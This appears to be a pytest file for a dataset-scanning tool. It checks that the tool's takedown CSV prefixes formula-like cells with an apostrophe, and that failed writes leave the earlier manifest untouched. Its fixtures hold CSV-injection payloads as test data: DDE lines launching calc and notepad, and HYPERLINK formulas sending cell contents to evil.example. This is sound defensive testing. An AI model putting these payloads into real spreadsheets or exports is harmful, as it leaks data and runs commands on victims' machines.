"""The takedown manifest, written from a real scan whose URLs, sample ids, shard id and bank
version carry spreadsheet formula payloads."""

import csv
import json

import pytest
from conftest import scan, scrutineer_with_file_size_limit, write_config

from scrutineer.core.banks import url_md5
from scrutineer.core.config import load_config
from scrutineer.reports.takedown import COLUMNS, write_takedown

#: Cells a spreadsheet reads as a formula start with one of these (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SHARD = "@SUM(1+1).jsonl"
BANK_VERSION = "=HYPERLINK(\"http://evil.example/?v=\"&A1,\"v\")"
ROWS = [  # (sample id, url)
    ("=1+1", "http://images.example.org/cat.jpg"),
    ("-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")"),
    ("+cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    ("\t=1+1", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\r=1+1", "\t=1+1"),
    ("ok\r=1+1", "\r=1+1"),
    ("plain", "http://-evil.example/a.jpg\r=cmd|' /C calc'!A0"),
]


@pytest.fixture(scope="module")
def payload_workspace(tmp_path_factory):
    """A scanned workspace whose every row is on the takedown list."""
    root = tmp_path_factory.mktemp("payloads")
    (root / SHARD).write_text("".join(json.dumps({"key": key, "url": url}) + "\n" for key, url in ROWS))
    (root / "urls.txt").write_text("".join(url_md5(url) + "\n" for _, url in ROWS))
    config = write_config(
        root,
        {
            "dataset": {"name": "payloads", "shards": [SHARD]},
            "banks": [{"name": "watchlist", "path": "urls.txt", "signal_type": "url_md5", "source": "Example Hotline", "version": BANK_VERSION}],
            "detectors": {"url_hashlist": {}},
        },
    )
    assert scan(config)["status"] == "completed"
    return config


def test_csv_neutralises_formulas_and_json_stays_exact(payload_workspace):
    csv_path, json_path, n = write_takedown(load_config(payload_workspace))
    with open(csv_path, newline="", encoding="utf-8") as f:
        cells = list(csv.reader(f))
    formulas = [cell for row in cells for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not formulas, f"formula cells in the CSV: {formulas}"
    doc = json.loads(json_path.read_text())
    items = [
        {"registrable_domain": d["registrable_domain"], "host": h["host"], **item}
        for d in doc["domains"]
        for h in d["hosts"]
        for item in h["items"]
    ]
    # the JSON carries every value exactly as scanned ...
    assert n == len(items) == len(ROWS)
    assert sorted((i["sample_id"], i["url"]) for i in items) == sorted(ROWS)
    assert {(i["bank_version"], i["shard_id"]) for i in items} == {(BANK_VERSION, SHARD)}
    assert "-evil.example" in {i["host"] for i in items}
    # ... and the CSV the same rows, a text cell that starts like a formula prefixed with "'"
    header, *body = cells
    assert header == COLUMNS
    expected = [
        ["" if v is None else "'" + v if isinstance(v, str) and v.startswith(FORMULA_STARTS) else str(v) for v in (i[c] for c in COLUMNS)]
        for i in items
    ]
    assert body == expected


@pytest.mark.parametrize("fails", ["csv", "json"])
def test_takedown_failing_part_way_leaves_the_previous_manifest(payload_workspace, fails):
    csv_path, json_path, _ = write_takedown(load_config(payload_workspace))
    before = {p.name: p.read_bytes() for p in csv_path.parent.iterdir()}
    csv_size, json_size = csv_path.stat().st_size, json_path.stat().st_size
    assert csv_size < json_size
    # the CSV is written first: a limit below its size stops it, one between the two sizes the JSON
    limit = csv_size // 2 if fails == "csv" else (csv_size + json_size) // 2
    result = scrutineer_with_file_size_limit(limit, "takedown", str(payload_workspace))
    assert result.returncode != 0 and "File too large" in result.stderr
    assert {p.name: p.read_bytes() for p in csv_path.parent.iterdir()} == before
